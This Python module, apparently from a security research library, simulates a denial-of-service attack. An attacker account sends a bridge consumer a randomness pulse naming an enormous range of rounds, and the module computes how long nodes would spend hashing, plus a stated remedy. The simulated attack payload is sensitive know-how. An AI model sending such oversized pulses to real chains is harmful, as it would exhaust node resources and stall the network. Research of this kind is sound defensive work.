r"""A pulse of many rounds stops a consumer: all are hashed before its signature is looked at, for a fixed weight.

The declared weight of the call is 7,545,079,000 ps. The work is about 1,954,836,013 ps for each round and
14,446,358,391 more, with the reads and writes of the pallet beside it. A range of $n$ rounds takes a node the time of
so many blocks:

$$\frac{14446358391 + 450000000 + 1954836013 n}{2 \cdot 10^{12}}.$$

The figures of the work are the declared weights of the bridge's own check. The library does no such work: where it
would take too long, it says that no answer comes in time.
"""

from __future__ import annotations

from drandlab.attacks.attack import Attack, AttackOutcome, AttackParameter
from drandlab.attacks.linked_chains import LinkedChains
from drandlab.attacks.small_bridge import CONSUME_PULSE, CONSUMER, MALLORY
from drandlab.idn.pulses import Pulse
from drandlab.idn.rand_beacon.range_mode import RangeBeacon
from drandlab.idn.runtime.calls import signed
from drandlab.idn.runtime.weights import BlockLimits, Weight
from drandlab.idn.subscriptions import policies
from drandlab.idn.xcm.delivery_message import delivery_message
from drandlab.idn.xcm.locations import sibling
from drandlab.idn.xcm.versioned import VersionedLocation, VersionedXcm

__all__ = ["ATTACK"]

CAP, INSTRUCTIONS, CALL = 10**12, 7_000_000_000, 7_545_079_000
CHECK, EACH, DATABASE, BLOCK = 14_446_358_391, 1_954_836_013, 450_000_000, 2 * 10**12
"""Picoseconds: of a check, of each of its rounds, of the check's reads and writes, of a block."""

REFUSED = Weight(14_446_000_000 + 125_000_000)
"""What the mended hook declares for a range that it does not look at."""


def _theory(hooks: str, span: int) -> AttackOutcome:
    shipped = hooks == "shipped"
    work = CHECK + EACH * span + DATABASE
    return {
        "weighed": INSTRUCTIONS + CALL + (0 if shipped else REFUSED.ref_time),
        "blocks": work / BLOCK if shipped else 0.0,
        "accepted": shipped,
    }


def _measure(seed: int, *, hooks: str, span: int) -> AttackOutcome:
    chains = LinkedChains(policies["deployed"], first=1 + seed % 1000, hooks=hooks)
    pulse = Pulse(signature=bytes(48), start=2**64 - span, end=2**64 - 1)
    message = VersionedXcm(
        5, delivery_message(CONSUME_PULSE + pulse.to_scale() + bytes(32), fee=CAP, subscriber=MALLORY)
    )
    written = {"dest": VersionedLocation(5, sibling(CONSUMER)), "message": message}
    chains.bridge.plan("PolkadotXcm", "send", signed(MALLORY), **written)
    chains.step()
    chains.settle()
    accepted = len(chains.consumer.events("RandomnessConsumed")) > 0
    one, two = (RangeBeacon(max_pulses=6).ingest_weight(rounds).ref_time for rounds in (1, 2))
    work = one + (two - one) * (pulse.rounds - 1) if accepted else 0
    return {
        "weighed": chains.consumer.executions[-1].weight.ref_time,
        "blocks": work / BlockLimits().block.ref_time,
        "accepted": accepted,
    }


ATTACK = Attack(
    name="unbounded_span",
    about="An account of the bridge sends a consumer a range so long that its nodes hash for years.",
    parameters={
        "hooks": AttackParameter("shipped", "what the consumer does with pulses", choices=("shipped", "checking")),
        "span": AttackParameter(2**40, "rounds that the pulse names", low=8, high=2**64 - 1),
    },
    sources=("Ideal Network SDK, December 2025: RuntimePulse and the weights of its pallets",),
    remedy="Refuse a range that is longer than the bridge's own bound before anything is computed.",
    theory=_theory,
    measure=_measure,
)
